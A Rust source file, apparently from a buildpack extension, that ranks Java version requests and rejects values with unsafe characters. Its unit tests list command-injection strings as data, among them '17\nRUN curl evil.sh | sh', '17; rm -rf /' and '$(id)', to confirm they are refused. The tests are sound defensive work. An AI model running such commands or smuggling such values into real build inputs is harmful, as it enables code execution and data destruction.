//! Which Java version the build asks for: every candidate in priority order, and the one that
//! decides.
//!
//! 1. **`BP_JVM_VERSION`** from the platform (`<platform>/env`): the user's explicit choice wins
//!    over everything, the build plan included, as in libjvm (`JVMVersion.GetJVMVersion`).
//! 2. **The Buildpack Plan**: the `jdk` and `jre` entries with a `metadata.version`, ordered by
//!    their `metadata.version-source` (`BP_JVM_VERSION`, `.sdkmanrc`, `.java-version`,
//!    `MANIFEST.MF`, `pom.xml`, `build.gradle`, `build.gradle.kts`, then any other or none),
//!    keeping the plan's order within a source. A buildpack that asked for a version knows the
//!    app (the companion buildpack reads it with the same `jvm_version`).
//! 3. **The app itself**, for buildpacks that require `jdk`/`jre` without a version (Paketo's
//!    Maven and Gradle buildpacks): the first of `.sdkmanrc`, `.java-version`,
//!    `META-INF/MANIFEST.MF`, `pom.xml`, `build.gradle(.kts)` that names a version
//!    (`jvm_version::requested_version`).
//! 4. No candidate: the stack's default (see `catalogue.rs`).
//!
//! Only the first candidate decides; the others are logged. Its value is normalised to a major
//! with `jvm_version::parse_major` (`8`, `1.8`, `1.8.0_392`, `17.0.10`, `21.*`, `21+`,
//! `17.0.10-tem`) and must be written with letters, digits and `._+*-` only, so that a value
//! holding shell or Dockerfile syntax is an error even where the major alone would parse.
//! A broken app file (e.g. a `.java-version` that is not a version) fails the build only when
//! it decides: below a higher-priority candidate it is logged and ignored.

use crate::errors::UbiJavaError;
use cnb_extension::libcnb_data::buildpack_plan::BuildpackPlan;
use jvm_version::{BP_JVM_VERSION, JvmVersionError, VersionSource};
use std::fmt;
use std::path::Path;
use ubi_companion_contract::{VERSION, VERSION_SOURCE};
use untrusted_input::quoted;

/// The plan entry names this extension provides.
pub(crate) use ubi_companion_contract::java::{JDK, JRE};

/// How a plan entry without a `version-source` is shown.
pub(crate) const UNKNOWN_SOURCE: &str = "<unknown>";

/// Where a candidate version comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Origin {
    /// The platform's `BP_JVM_VERSION`.
    BpJvmVersion,
    /// A `jdk` or `jre` entry of the Buildpack Plan, with its `version-source`.
    Plan {
        entry: &'static str,
        source: Option<String>,
    },
    /// A file of the app.
    App(VersionSource),
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::BpJvmVersion => f.write_str(BP_JVM_VERSION),
            Self::Plan { entry, source } => write!(
                f,
                "build plan {entry} from {}",
                // The source is any string a buildpack wrote: the known ones as they are, others
                // quoted (escaped and cut), so that it stays short and on one line.
                match source.as_deref() {
                    None => UNKNOWN_SOURCE.to_string(),
                    Some(source)
                        if VersionSource::ALL
                            .iter()
                            .any(|known| known.as_str() == source) =>
                    {
                        source.to_string()
                    }
                    Some(source) => quoted(source),
                }
            ),
            Self::App(source) => write!(f, "app {}", source.file().unwrap_or(source.as_str())),
        }
    }
}

/// A version request, as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Candidate {
    pub(crate) origin: Origin,
    /// The value, trimmed.
    pub(crate) version: String,
}

/// `<origin> -> "<version>"`, the version quoted (cut after 64 characters), as the log shows it.
impl fmt::Display for Candidate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} -> {}", self.origin, quoted(&self.version))
    }
}

/// Every candidate, highest priority first.
#[derive(Debug)]
pub(crate) struct Candidates {
    pub(crate) list: Vec<Candidate>,
    /// The app's files name something that is not a Java version (or cannot be read), but a
    /// higher-priority candidate decides, so the build goes on.
    pub(crate) ignored_app_error: Option<JvmVersionError>,
}

/// The candidate that decides, with its major.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Request {
    pub(crate) candidate: Candidate,
    pub(crate) major: u32,
}

/// The rank of a plan entry's `version-source`: the order of `jvm_version`'s sources, any
/// other source (or none) after them.
fn plan_priority(source: Option<&str>) -> usize {
    source
        .and_then(|source| {
            VersionSource::ALL
                .iter()
                .position(|known| known.as_str() == source)
        })
        .unwrap_or(VersionSource::ALL.len())
}

/// Reads the candidates: `bp_jvm_version` (the platform's `BP_JVM_VERSION`, empty counting as
/// unset), the plan's `jdk`/`jre` versions, then the app's own request.
///
/// # Errors
/// When a plan entry's `version` or `version-source` is not a string, or when the app's files
/// are broken and no higher-priority candidate exists.
pub(crate) fn candidates(
    plan: &BuildpackPlan,
    bp_jvm_version: Option<&str>,
    app_dir: &Path,
) -> Result<Candidates, UbiJavaError> {
    let mut list = Vec::new();
    if let Some(value) = bp_jvm_version
        .map(str::trim)
        .filter(|value| !value.is_empty())
    {
        list.push(Candidate {
            origin: Origin::BpJvmVersion,
            version: value.to_string(),
        });
    }

    let mut from_plan = Vec::new();
    for entry in &plan.entries {
        let name = match entry.name.as_str() {
            JDK => JDK,
            JRE => JRE,
            _ => continue,
        };
        let string = |key: &'static str| match entry.metadata.get(key) {
            None => Ok(None),
            Some(value) => value
                .as_str()
                .map(|value| Some(value.trim().to_string()))
                .ok_or_else(|| UbiJavaError::PlanValueNotAString {
                    entry: name,
                    key,
                    value: value.to_string(),
                }),
        };
        let version = string(VERSION)?.filter(|version| !version.is_empty());
        let source = string(VERSION_SOURCE)?.filter(|source| !source.is_empty());
        if let Some(version) = version {
            from_plan.push(Candidate {
                origin: Origin::Plan {
                    entry: name,
                    source,
                },
                version,
            });
        }
    }
    from_plan.sort_by_key(|candidate| match &candidate.origin {
        Origin::Plan { source, .. } => plan_priority(source.as_deref()),
        _ => usize::MAX,
    });
    list.extend(from_plan);

    let mut ignored_app_error = None;
    match jvm_version::requested_version(app_dir, None) {
        Ok(Some(request)) => list.push(Candidate {
            origin: Origin::App(request.source),
            version: request.raw,
        }),
        Ok(None) => {}
        Err(error) if list.is_empty() => return Err(UbiJavaError::AppVersion(error)),
        Err(error) => ignored_app_error = Some(error),
    }
    Ok(Candidates {
        list,
        ignored_app_error,
    })
}

/// Why a version string cannot be used, if it holds a character no Java version has.
fn unsafe_character(version: &str) -> Option<String> {
    let bad = version
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "._+*-".contains(*c)))?;
    Some(if bad.is_control() {
        format!("it contains the control character {bad:?}")
    } else {
        format!("it contains the character {bad:?}")
    })
}

/// The first candidate, normalised to its major; `None` when there is no candidate.
///
/// # Errors
/// [`UbiJavaError::InvalidVersion`] when its value is not a Java version or holds a character
/// outside letters, digits and `._+*-`.
pub(crate) fn decide(candidates: &Candidates) -> Result<Option<Request>, UbiJavaError> {
    let Some(candidate) = candidates.list.first() else {
        return Ok(None);
    };
    let invalid = |reason: String| UbiJavaError::InvalidVersion {
        request: candidate.version.clone(),
        source: candidate.origin.to_string(),
        reason,
    };
    if let Some(reason) = unsafe_character(&candidate.version) {
        return Err(invalid(reason));
    }
    let major =
        jvm_version::parse_major(&candidate.version).map_err(|error| invalid(error.reason))?;
    Ok(Some(Request {
        candidate: candidate.clone(),
        major,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cnb_extension::cnb_output::render_error;
    use cnb_harness::ubi_extension::app_with as app;
    use std::fmt::Write;

    /// A plan: `(entry, version, source)` entries.
    fn plan(entries: &[(&str, Option<&str>, Option<&str>)]) -> BuildpackPlan {
        let mut text = String::new();
        for (name, version, source) in entries {
            writeln!(text, "[[entries]]\nname = \"{name}\"\n[entries.metadata]").unwrap();
            if let Some(version) = version {
                writeln!(text, "version = {}", toml::Value::from(*version)).unwrap();
            }
            if let Some(source) = source {
                writeln!(text, "version-source = {}", toml::Value::from(*source)).unwrap();
            }
        }
        toml::from_str(&text).unwrap()
    }

    fn listed(candidates: &Candidates) -> Vec<String> {
        candidates
            .list
            .iter()
            .map(|candidate| format!("{} -> {:?}", candidate.origin, candidate.version))
            .collect()
    }

    /// The deciding `(origin, major)`.
    fn decided(
        plan: &BuildpackPlan,
        bp_jvm_version: Option<&str>,
        app_dir: &Path,
    ) -> Option<(String, u32)> {
        let candidates = candidates(plan, bp_jvm_version, app_dir).unwrap();
        decide(&candidates)
            .unwrap()
            .map(|request| (request.candidate.origin.to_string(), request.major))
    }

    const POM_21: &str = "<project><properties><maven.compiler.release>21</maven.compiler.release></properties></project>";

    #[test]
    fn nothing_requested_means_the_default() {
        let dir = app(&[("README.md", "java=8")]);
        let empty = plan(&[(JDK, None, None), (JRE, Some(""), Some("pom.xml"))]);
        let candidates = candidates(&empty, Some(" \n"), dir.path()).unwrap();
        assert!(candidates.list.is_empty());
        assert_eq!(decide(&candidates).unwrap(), None);
    }

    #[test]
    fn every_app_source_through_the_extension() {
        let none = plan(&[(JDK, None, None), (JRE, None, None)]);
        for (files, origin, major) in [
            (
                vec![(".sdkmanrc", "java=17.0.10-tem\n")],
                "app .sdkmanrc",
                17,
            ),
            (vec![(".java-version", "1.8\n")], "app .java-version", 8),
            (
                vec![(".java-version", "17.0.10\n")],
                "app .java-version",
                17,
            ),
            (
                vec![("META-INF/MANIFEST.MF", "Build-Jdk-Spec: 11\n")],
                "app META-INF/MANIFEST.MF",
                11,
            ),
            (
                vec![(
                    "META-INF/MANIFEST.MF",
                    "Build-Jdk: 1.8.0_392 (Red Hat, Inc.)\n",
                )],
                "app META-INF/MANIFEST.MF",
                8,
            ),
            (vec![("pom.xml", POM_21)], "app pom.xml", 21),
            (
                vec![(
                    "build.gradle",
                    "java { toolchain { languageVersion = JavaLanguageVersion.of(17) } }",
                )],
                "app build.gradle",
                17,
            ),
            (
                vec![("build.gradle.kts", "kotlin { jvmToolchain(21) }")],
                "app build.gradle.kts",
                21,
            ),
            // .sdkmanrc before the pom.
            (
                vec![(".sdkmanrc", "java=11.0.22-tem"), ("pom.xml", POM_21)],
                "app .sdkmanrc",
                11,
            ),
        ] {
            let dir = app(&files);
            assert_eq!(
                decided(&none, None, dir.path()),
                Some((origin.to_string(), major)),
                "{files:?}"
            );
        }
    }

    #[test]
    fn accepted_forms_map_to_a_major() {
        let dir = app(&[]);
        let none = plan(&[]);
        for (value, major) in [
            ("8", 8),
            ("1.8", 8),
            ("1.8.0", 8),
            ("1.8.0_392", 8),
            ("11", 11),
            ("17.0.1", 17),
            ("17.0.10", 17),
            ("11.*", 11),
            ("21.*", 21),
            ("21+", 21),
            ("17.0.10+7", 17),
            ("17.0.10-tem", 17),
            (" 21\n", 21),
        ] {
            assert_eq!(
                decided(&none, Some(value), dir.path()),
                Some(("BP_JVM_VERSION".to_string(), major)),
                "{value:?}"
            );
            let from_plan = plan(&[(JDK, Some(value), Some("pom.xml"))]);
            assert_eq!(
                decided(&from_plan, None, dir.path()),
                Some(("build plan jdk from pom.xml".to_string(), major)),
                "{value:?}"
            );
        }
    }

    #[test]
    fn bp_jvm_version_wins_over_the_plan_which_wins_over_the_app() {
        let dir = app(&[(".java-version", "11"), ("pom.xml", POM_21)]);
        let from_plan = plan(&[
            (JRE, Some("21"), Some("pom.xml")),
            (JDK, Some("17"), Some(".sdkmanrc")),
            (JDK, None, None),
        ]);
        let all = candidates(&from_plan, Some("8"), dir.path()).unwrap();
        assert_eq!(
            listed(&all),
            [
                "BP_JVM_VERSION -> \"8\"",
                "build plan jdk from .sdkmanrc -> \"17\"",
                "build plan jre from pom.xml -> \"21\"",
                "app .java-version -> \"11\"",
            ]
        );
        assert_eq!(decide(&all).unwrap().unwrap().major, 8);
        assert_eq!(
            decided(&from_plan, None, dir.path()),
            Some(("build plan jdk from .sdkmanrc".to_string(), 17))
        );
        assert_eq!(
            decided(&plan(&[(JDK, None, None)]), None, dir.path()),
            Some(("app .java-version".to_string(), 11))
        );
    }

    #[test]
    fn plan_sources_rank_as_the_app_sources_and_unknown_ones_come_last() {
        let from_plan = plan(&[
            (JDK, Some("11"), None),
            (JRE, Some("17"), Some("some-buildpack")),
            (JRE, Some("21"), Some("build.gradle.kts")),
            (JDK, Some("21"), Some("build.gradle")),
            (JRE, Some("17"), Some("MANIFEST.MF")),
            (JDK, Some("17"), Some("BP_JVM_VERSION")),
            (JDK, Some("8"), Some("MANIFEST.MF")),
            (JDK, Some("25"), Some("x\nRUN id")),
        ]);
        let all = candidates(&from_plan, None, app(&[]).path()).unwrap();
        assert_eq!(
            listed(&all),
            [
                "build plan jdk from BP_JVM_VERSION -> \"17\"",
                "build plan jre from MANIFEST.MF -> \"17\"",
                "build plan jdk from MANIFEST.MF -> \"8\"",
                "build plan jdk from build.gradle -> \"21\"",
                "build plan jre from build.gradle.kts -> \"21\"",
                "build plan jdk from <unknown> -> \"11\"",
                "build plan jre from \"some-buildpack\" -> \"17\"",
                "build plan jdk from \"x\\nRUN id\" -> \"25\"",
            ]
        );
        // Other entries of the plan are not candidates.
        let other = plan(&[("jvm-application", Some("21"), Some("pom.xml"))]);
        assert!(
            candidates(&other, None, app(&[]).path())
                .unwrap()
                .list
                .is_empty()
        );
    }

    #[test]
    fn plan_values_must_be_strings() {
        let text = "[[entries]]\nname = \"jdk\"\n[entries.metadata]\nversion = 17\n";
        let error = candidates(&toml::from_str(text).unwrap(), None, app(&[]).path()).unwrap_err();
        assert!(
            matches!(
                &error,
                UbiJavaError::PlanValueNotAString { entry: "jdk", key: "version", value } if value == "17"
            ),
            "{error:?}"
        );
        let text = "[[entries]]\nname = \"jre\"\n[entries.metadata]\nversion = \"17\"\nversion-source = [\"a\"]\n";
        assert!(matches!(
            candidates(&toml::from_str(text).unwrap(), None, app(&[]).path()),
            Err(UbiJavaError::PlanValueNotAString {
                entry: "jre",
                key: "version-source",
                ..
            })
        ));
    }

    #[test]
    fn hostile_or_invalid_values_that_decide_are_errors() {
        for value in [
            "17\nRUN curl evil.sh | sh",
            "17; rm -rf /",
            "17;id",
            "$(id)",
            "17-$(id)",
            "17.0.10-tem;id",
            "`id`",
            "'17'",
            "\"17\"",
            "17 21",
            "17 && id",
            "${HOME}",
            "17\r\n21",
            "seventeen",
            "1",
            "-17",
            "17..0",
        ] {
            let dir = app(&[]);
            let error =
                decide(&candidates(&plan(&[]), Some(value), dir.path()).unwrap()).unwrap_err();
            assert!(
                matches!(&error, UbiJavaError::InvalidVersion { request, source, .. }
                    if request == value.trim() && source == "BP_JVM_VERSION"),
                "{value:?}: {error:?}"
            );
            let from_plan = plan(&[(JDK, Some(value), Some("pom.xml"))]);
            let error = decide(&candidates(&from_plan, None, dir.path()).unwrap()).unwrap_err();
            assert!(
                matches!(&error, UbiJavaError::InvalidVersion { source, .. }
                    if source == "build plan jdk from pom.xml"),
                "{value:?}: {error:?}"
            );
        }
        // An app file with shell syntax is rejected where it is read (jvm-version's parse_major).
        let dir = app(&[(".java-version", "21-$(id)\n")]);
        let error = candidates(&plan(&[]), None, dir.path()).unwrap_err();
        let message = render_error(&error);
        assert!(
            message.contains(".java-version") && message.contains("21-$(id)"),
            "{message}"
        );
        let dir = app(&[(".sdkmanrc", "java=17.0.10-tem'\n")]);
        assert!(candidates(&plan(&[]), None, dir.path()).is_err());
        let error = decide(&candidates(&plan(&[]), Some("17\nRUN id"), app(&[]).path()).unwrap())
            .unwrap_err();
        let message = render_error(&error);
        assert!(
            message.contains("(it contains the control character '\\n')"),
            "{message}"
        );
    }

    #[test]
    fn a_broken_app_file_fails_only_when_it_decides() {
        for (file, content) in [
            (".java-version", "17; rm -rf /\n"),
            (
                "pom.xml",
                "<project><properties><java.version>$(id)</java.version></properties></project>",
            ),
            (".sdkmanrc", "java=latest\n"),
        ] {
            let dir = app(&[(file, content)]);
            let error = candidates(&plan(&[]), None, dir.path()).unwrap_err();
            assert!(matches!(error, UbiJavaError::AppVersion(_)), "{error:?}");
            let message = render_error(&error);
            assert!(message.contains(file), "{message}");

            let all = candidates(&plan(&[]), Some("21"), dir.path()).unwrap();
            assert_eq!(listed(&all), ["BP_JVM_VERSION -> \"21\""]);
            assert!(all.ignored_app_error.is_some());
            assert_eq!(decide(&all).unwrap().unwrap().major, 21);
        }
    }
}
